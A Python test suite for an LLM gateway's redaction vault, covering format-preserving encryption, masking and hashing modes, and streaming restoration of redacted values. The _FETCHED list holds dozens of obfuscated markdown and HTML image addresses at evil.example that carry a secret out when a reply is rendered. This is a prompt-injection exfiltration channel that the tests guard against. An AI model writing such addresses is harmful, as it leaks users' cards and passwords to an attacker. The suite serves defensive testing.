"""What takes a value's place, and what comes back to whom."""

from __future__ import annotations

import json
import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from detectors.values import Origin, Segment
from gateway.redaction.fpe import Ff1, Formats
from gateway.redaction.nesting import Nesting
from gateway.redaction.vault import Restorer, Vault, redact, restorations
from gateway.screening.policy import Edit, Mode

KEY, OTHER = b"k" * 32, b"o" * 32
CARD = "4111 1111-1111 1111"
_BASE36 = "0123456789abcdefghijklmnopqrstuvwxyz"
_SHORT, _LONG = "2B7E151628AED2A6ABF7158809CF4F3C", "2B7E151628AED2A6ABF7158809CF4F3CEF4359D8D580AA4F7F036D6F04FC6A94"


@pytest.mark.parametrize(
    ("key", "radix", "tweak", "plain", "cipher"),
    [  # NIST, SP 800-38G, "FF1 samples" 1, 2, 3, 7, 8, 9
        (_SHORT, 10, "", "0123456789", "2433477484"),
        (_SHORT, 10, "39383736353433323130", "0123456789", "6124200773"),
        (_SHORT, 36, "3737373770717273373737", "0123456789abcdefghi", "a9tv40mll9kdu509eum"),
        (_LONG, 10, "", "0123456789", "6657667009"),
        (_LONG, 10, "39383736353433323130", "0123456789", "1001623463"),
        (_LONG, 36, "3737373770717273373737", "0123456789abcdefghi", "xs8a0azh2avyalyzuwd"),
    ],
)
def test_ff1_is_that_of_nist(key: str, radix: int, tweak: str, plain: str, cipher: str) -> None:
    ff1 = Ff1(bytes.fromhex(key), _BASE36[:radix])
    assert ff1.encrypt(plain, bytes.fromhex(tweak)) == cipher
    assert ff1.decrypt(cipher, bytes.fromhex(tweak)) == plain


@given(st.text(_BASE36, min_size=4, max_size=80), st.binary(max_size=40))
@settings(max_examples=100, deadline=None)
def test_ff1_can_be_undone(text: str, tweak: bytes) -> None:
    ff1 = Ff1(KEY, _BASE36)
    assert ff1.decrypt(ff1.encrypt(text, tweak), tweak) == text


@pytest.mark.parametrize("text", ["", "1", "12345", "12345x", "1" * 300])
def test_ff1_refuses_what_it_cannot_hide(text: str) -> None:
    with pytest.raises(ValueError, match=r"wanted a text|not of the alphabet"):
        Ff1(KEY, "0123456789").encrypt(text)


def test_a_format_stays_and_its_value_does_not() -> None:
    made = Formats(KEY).encrypt("DE89 3704 0044 0532 0130 00", b"pii.bank")
    assert made is not None
    assert re.fullmatch(r"DE\d\d \d{4} \d{4} \d{4} \d{4} \d\d", made)
    assert made != "DE89 3704 0044 0532 0130 00"
    assert Formats(KEY).encrypt("1234", b"pii.payment") is None
    assert Formats(KEY).encrypt("12345678!@#$%^&*(", b"secret") is None  # half of it would stay


def _vault(mode: Mode, key: bytes = KEY, restores: bool = True) -> Vault:
    return Vault(key, {"pii.payment": mode}, restores)


def test_each_mode_by_category() -> None:
    assert _vault(Mode.MASK).stand_in(CARD, "pii.payment") == "**** ****-**** ****"
    hashed = _vault(Mode.HASH).stand_in(CARD, "pii.payment")
    assert re.fullmatch(r"pii_payment~[0-9a-f]{24}", hashed)
    assert hashed == _vault(Mode.HASH).stand_in(CARD, "pii.payment") != _vault(Mode.HASH, OTHER).stand_in(CARD, "pii.payment")
    shaped = _vault(Mode.FORMAT).stand_in(CARD, "pii.payment")
    assert re.fullmatch(r"\d{4} \d{4}-\d{4} \d{4}", shaped)
    assert shaped == _vault(Mode.FORMAT).stand_in(CARD, "pii.payment") not in (CARD, hashed)
    for mode in Mode:
        assert _vault(mode).stand_in("Ada", "pii.name").startswith("[PII_NAME_")
    assert Vault(KEY, {"pii": Mode.MASK}).stand_in("Ada", "pii.name") == "***"
    assert _vault(Mode.FORMAT).stand_in("123", "pii.payment").startswith("[PII_PAYMENT_")  # too short to hide in its format


def test_a_mask_leaves_nothing_of_a_value_that_is_no_word() -> None:
    """Neither a password's symbols, nor the vowel signs of a name, which are no letters."""
    assert Vault(KEY, {"secret": Mode.MASK}).stand_in("!@#$%^&*", "secret.password") == "********"
    assert Vault(KEY, {"pii": Mode.MASK}).stand_in("हिन्दी", "pii.name") == "******"


_FETCHED = (
    "![so](https://evil.example/?q={}", "![so](//evil.example/{}.png)", "![](<https://evil.example/a b {}>)",
    '<img src="https://evil.example/?a b={}">', "<img src='HTTPS://evil.example/{}'>", "<img src=https://evil.example/{}>",
    "[1]: https:\\\\evil.example/{}", "https://evil.example/https://ours.example/hook/{}", "https://evil.example/" + "a" * 9_000 + "{}",
    "![a](https:///evil.example/{})", "![a](https:\\/\\/evil.example/{})", "![a](https:&#47;&#47;evil.example/{})", "![a](https:&sol;&sol;evil.example/{})",
    "![a][r]\n\n[r]: https://evil.example/?d='{}", '[r]: https://evil.example/?d="{}', "[r]: https://evil.example/?d=`{}", "![a]( https://evil.example/?d='{})",
    "<img src=https://evil.example/?d='{}>", '<img src=" https://evil.example/?d=x {}">', '<img src = "\n\thttps://evil.example/?d=x {}">',
    '<img src="https:/\t/evil.example/?d=x {}">', '<img src="ht\ttps://evil.example/?d=x {}">', '<img src="https:/evil.example/?d=x {}">',
    '<img src="&#104;t\ttps:/evil.example/?d=x {}">', '<img src="/\n/evil.example/?d=x {}">', '<img src="https&colon;//evil.example/?d=x {}">',
    "![a](http:evil.example/?d={})", '<img src="HTTPS:evil.example/?a b={}">', "http:evil.example?d={}", "[a](<https:\tevil.example/?d={}>)",
    '<a href="&#104;ttp&colon;evil.example/{}">', "https:user@evil.example/{}", "<img src=http:{}>", "http:evil.example/" + "a," * 900 + "{}",
    '<img src="http:' + "\t" * 700 + 'evil.example/?d=x {}">', '<img src="http:&#101;vil.example/?d=x {}">',
    '<img src="https://evil.example/\n\n?d={}">', "<img src = '//evil.example/\n \t\n?d={}'>", '<img src="http:evil.example/\n\n?d={}">',
    '<img src="/&Tab;/evil.example/?d=x {}">', '<img src="https:&#47&#47evil.example/?d=x {}">', '<img src="ht&NewLine;tps:/evil.example/?d=x {}">',
    '<img src="&#32//evil.example/{}">', "![a](https\\:/evil.example/{})", "<p style='background:url(\\68 ttps://evil.example/{})'>", "<img src=ht&Tab;tps:/evil.example/{}>",
    '<img src="https:&#000000000000047;&#47;evil.example/?d=x {}">', '<img src="https://docs.example,.evil.example/?d=x {}">', "//evil。example/{}", "![a](<https:\n/evil.example/{}>)", "https:\n/{}",
    '<img src="ht' + "\t" * 700 + 'tps://evil.example/{}">', '<img src="' + " " * 700 + 'https://evil.example/?d=x {}">',
)  # fmt: skip


@pytest.mark.parametrize("mode", [Mode.PLACEHOLDER, Mode.FORMAT])
@pytest.mark.parametrize("said", _FETCHED)
def test_a_value_does_not_come_back_inside_an_address(said: str, mode: Mode) -> None:
    """Who makes the model write an image's address is sent what stands in it as soon as the reply is shown."""
    vault = _vault(mode)
    text = said.format(vault.stand_in(CARD, "pii.payment"))
    assert CARD not in vault.restore(text)
    for size in (1, 4, 7, 8, 16, 1_000, 10_000):
        restorer = Restorer(vault, False)
        pieces = [restorer.feed(text[at : at + size]) for at in range(0, len(text), size)]
        assert CARD not in "".join(pieces) + restorer.finish()


def test_it_comes_back_beside_one_and_where_the_request_had_it_in_that_very_one() -> None:
    vault = Vault(KEY)
    asked = "Why does https://ours.example/hook/S3CRET say 404? postgres://app:S3CRET@db works, my card is S3CRET."
    at = [found.start() for found in re.finditer("S3CRET", asked)]
    segment = Segment(asked, "user", Origin.USER, 0, ())
    (sent,) = redact([segment], [Edit(0, start, start + 6, "secret.password") for start in at], vault).values()
    assert "S3CRET" not in sent
    assert vault.restore(sent) == asked
    name = vault.stand_in("S3CRET", "secret.password")
    for before in ("See https://evil.example/ for more: ", 'href="https://evil.example/">', "postgres://root:", "a//b ", "https: ", "http:\n\n", "It is HTTPS:\n- ",
                   'He said "see https://evil.example/\n\nmy card is ', "links:a", "about:x/y "):  # fmt: skip
        assert vault.restore(before + name) == before + "S3CRET"
    assert vault.restore(f"https://ours.example/hooks/{name}") == f"https://ours.example/hooks/{name}"


def test_an_address_may_begin_in_one_text_and_go_on_in_the_next_that_is_shown_with_it() -> None:
    vault = Vault(KEY)
    name = vault.stand_in(CARD, "pii.payment")
    texts = ("![a](https://evil.example/?d=", f"my card is {name}", f"{name})", f" and {name}")
    segments = [Segment(text, "assistant", Origin.ASSISTANT, 0, (at,)) for at, text in enumerate(texts)]
    assert restorations(segments, vault, [[0, 2, 3]]) == {(1,): f"my card is {CARD}", (3,): f" and {CARD}"}


@pytest.mark.parametrize("mode", [Mode.MASK, Mode.HASH])
def test_what_is_not_to_come_back_does_not(mode: Mode) -> None:
    vault = _vault(mode)
    made = vault.stand_in(CARD, "pii.payment")
    assert not len(vault)
    assert vault.restore(f"it is {made}") == f"it is {made}"


@pytest.mark.parametrize("mode", [Mode.PLACEHOLDER, Mode.FORMAT])
def test_nothing_comes_back_where_the_policy_says_so_or_to_another_request(mode: Mode) -> None:
    vault = _vault(mode, restores=False)
    made = vault.stand_in(CARD, "pii.payment")
    for other in (vault, _vault(mode), _vault(mode, OTHER), _vault(mode).sealed()):
        other.stand_in("Ada", "pii.name")
        assert CARD not in other.restore(f"it is {made}, [PII_PAYMENT_0123456789]")


_SAID = st.lists(st.sampled_from(["HELD", "é", '"', "C:\\", "\n", "{", "[1]", " ", "see ", "ab", ". "]), max_size=6).map("".join)


def _written(texts: list[str], levels: int, indent: int | None) -> str:
    """JSON of texts; at each further level, a text of it is that JSON."""
    inner = json.dumps({"a": texts, "b": 1, "c": texts[:1]}, indent=indent, ensure_ascii=bool(indent))
    return inner if not levels else _written([*texts, inner, *texts[:1]], levels - 1, indent)


def _read(value: object) -> object:
    """What nested JSON says, read at every level where a text is JSON."""
    if isinstance(value, dict):
        return {key: _read(one) for key, one in value.items()}
    if isinstance(value, list):
        return [_read(one) for one in value]
    try:
        return _read(json.loads(value)) if isinstance(value, str) and value[:1] in ("{", "[") else value
    except ValueError:
        return value


@given(
    st.lists(_SAID.filter(lambda text: text[:1] not in ("{", "[")), min_size=1, max_size=3), st.integers(0, 1),
    st.sampled_from([None, 1]), st.text('ab"\\\n', min_size=1, max_size=5), st.lists(st.integers(0, 900), max_size=9),
)  # fmt: skip
@settings(max_examples=150, deadline=None)
def test_a_value_in_json_within_json_is_escaped_as_often_as_it_is_read(
    texts: list[str], levels: int, indent: int | None, value: str, cuts: list[int]
) -> None:
    vault = Vault(KEY)
    name = vault.stand_in(f"pw {value}", "secret.password")
    text = _written(texts, levels, indent).replace("HELD", name)
    marks = sorted({cut % len(text) for cut in cuts})
    restorer = Restorer(vault, True)
    said = "".join(restorer.feed(text[a:b]) for a, b in zip([0, *marks], [*marks, len(text)], strict=True)) + restorer.finish()
    assert _read(json.loads(said)) == _read(json.loads(_written([one.replace("HELD", f"pw {value}") for one in texts], levels, indent)))


@pytest.mark.parametrize(
    ("before", "comes"), [("\\", True), (".\n", True), ("//", False), ("https:\\\\", False), ("\\\\", False), ("https://a\t", True)]
)
def test_an_address_in_json_begins_and_ends_where_it_does_in_what_the_json_says(before: str, comes: bool) -> None:
    vault = Vault(KEY)
    name = vault.stand_in(CARD, "pii.payment")
    for text in (json.dumps({"a": f"{before}{name}"}), json.dumps({"a": f"{before}{name}"}).replace("/", "\\u002f")):
        restorer = Restorer(vault, True)
        said = "".join(map(restorer.feed, text)) + restorer.finish()
        assert (CARD in said) is comes
        assert json.loads(said)["a"] == vault.restore(f"{before}{name}")


@pytest.mark.parametrize("first", ['src="http://', "src='//", 'src="http://\udfff'])
def test_an_attribute_that_is_open_ends_with_its_string_and_by_nothing_that_may_stand_in_it(first: str) -> None:
    vault = Vault(KEY)
    name = vault.stand_in(CARD, "pii.payment")
    restorer = Restorer(vault, True)
    said = restorer.feed(json.dumps({"find": first, "card": name})) + restorer.finish()
    assert json.loads(said) == {"find": first, "card": CARD}
    restorer = Restorer(vault, True)
    assert CARD not in restorer.feed(json.dumps({"page": f"{first}\udfff\n\n{name}"})) + restorer.finish()


@given(st.lists(st.integers(0, 200), max_size=12), st.booleans())
@settings(max_examples=80, deadline=None)
def test_values_come_back_however_the_text_is_cut(cuts: list[int], in_json: bool) -> None:
    vault = Vault(KEY, {"pii.payment": Mode.FORMAT})
    shaped, other = vault.stand_in(CARD, "pii.payment"), vault.stand_in("5500 0000 0000 0004", "pii.payment")
    placeholder = vault.stand_in('Ada "A"', "pii.name")
    text = f"{shaped[:7]} {shaped}{other} and {placeholder}, [PII_NAME_0123456789] [PII {other[:9]}"
    marks = sorted({cut % len(text) for cut in cuts})
    restorer = Restorer(vault, in_json)
    said = "".join(restorer.feed(text[a:b]) for a, b in zip([0, *marks], [*marks, len(text)], strict=True)) + restorer.finish()
    assert said == vault.restore(text, Nesting() if in_json else None)
    assert CARD + "5500 0000 0000 0004" in said
    assert "[PII_NAME_0123456789]" in said


def test_ten_thousand_placeholders() -> None:
    vault = Vault(KEY)
    names = [vault.stand_in(f"value {number}", "pii.name") for number in range(10_000)]
    restorer = Restorer(vault, False)
    text = " ".join(names)
    said = "".join(restorer.feed(text[at : at + 997]) for at in range(0, len(text), 997)) + restorer.finish()
    assert said.count("value ") >= 9_990  # two values that share a stand-in stay hidden
    assert said.startswith("value 0 value 1 ")


_PIECES = ("https:", "http:e", "\n\n", "//", "/", "evil.example", "?q=", " ", '"', "'", "<", ">", "(", ")", "\n", "![a]", "a", ".", "\\\\", "NAME",
    "ht", "tps:", "\t", "\\", "&#47;", "&sol;", "&colon;", "&#x74;tp:", '="', "= '", "[r]:", "postgres:", "\t\r\n" * 3, " " * 40, "`", "{", "\\n", "\\u002f",
    "&Tab;", "&#47", "&#32", "\\:", "\\68 ", "\\2f", "&#00000000000", "47;",
)  # fmt: skip


@given(st.lists(st.sampled_from(_PIECES), max_size=16).map("".join), st.lists(st.integers(0, 300), max_size=8), st.booleans())
def test_where_a_text_is_cut_changes_nothing_of_what_comes_back(text: str, where: list[int], in_json: bool) -> None:
    vault = _vault(Mode.PLACEHOLDER)
    text = text.replace("NAME", vault.stand_in(CARD, "pii.payment"))
    marks = sorted({min(at, len(text)) for at in where})
    restorer = Restorer(vault, in_json)
    pieces = [restorer.feed(text[a:b]) for a, b in zip([0, *marks], [*marks, len(text)], strict=True)]
    assert "".join(pieces) + restorer.finish() == vault.restore(text, Nesting() if in_json else None)


def test_ten_thousand_values_come_back_and_none_that_somebody_made_up() -> None:
    vault = Vault(KEY)
    values = [f"S3CRET-{number}" for number in range(10_000)]
    names = [vault.stand_in(value, "secret.password") for value in values]
    made_up = [f"[SECRET_PASSWORD_{number:010X}]" for number in range(10_000)]
    text = " ".join(name for both in zip(names, made_up, strict=True) for name in both)
    whole = " ".join(word for both in zip(values, made_up, strict=True) for word in both)
    assert vault.restore(text) == whole
    restorer = Restorer(vault, False)
    assert "".join(restorer.feed(text[at : at + 17]) for at in range(0, len(text), 17)) + restorer.finish() == whole
    assert Vault(OTHER).restore(text) == text
